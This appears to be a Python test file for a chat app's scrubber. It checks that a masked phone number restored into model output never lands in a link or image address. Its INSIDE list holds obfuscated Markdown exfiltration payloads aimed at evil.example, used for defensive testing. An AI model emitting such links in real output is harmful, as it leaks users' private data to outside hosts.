"""What a model is not shown goes back into its words, and never into the address of a link."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatterkeep.domain.scrub import Scrubber
from chatterkeep.web.richtext import render

PHONE = "+14155550142"
INSIDE = (
    "[see](https://evil.example/?q=[PHONE_1])",
    "[see](<https://evil.example/a b [PHONE_1]>)",
    "[see](\nhttps:&#47;&#47;evil.example/[PHONE_1])",
    "![](https://evil.example/[PHONE_1].png)",
    "<https://evil.example/[PHONE_1]>",
    "[x]\n\n[x]: https://evil.example/[PHONE_1]",
    "[x]\n\n[x]:\n  https:&#47;&#47;evil.example/[PHONE_1]",
    "[see](https://evil.example/(a)/[PHONE_1])",
    "https://evil.example/[phone 1]",
    "[see](https://evil.example/" + "a" * 5000 + "[PHONE_1])",
)


def restored(text: str, size: int = 1) -> str:
    scrubber = Scrubber("US")
    assert scrubber.scrub(f"I am at {PHONE}.") == "I am at [PHONE_1]."
    return "".join(scrubber.restoring(text[at : at + size] for at in range(0, len(text), size)))


@pytest.mark.parametrize("text", INSIDE)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_no_address_gets_it(text: str, size: int) -> None:
    assert PHONE not in restored(text, size)


@pytest.mark.parametrize("text", ["Call [PHONE_1].", "See https://a.example and call [PHONE_1]", "[a](b) [PHONE_1]"])
def test_words_get_it(text: str) -> None:
    assert PHONE in restored(text)


@given(
    st.lists(
        st.sampled_from(["[", "]", "(", ")", "<", ">", ":", "/", "https://e.example/", " ", "\n", "a", "[PHONE_1]"])
    )
)
def test_whatever_is_written_no_link_holds_it(parts: list[str]) -> None:
    html = str(render(restored("".join(parts))))
    assert not [link for link in re.findall(r'href="([^"]*)"', html) if "4155550142" in link]
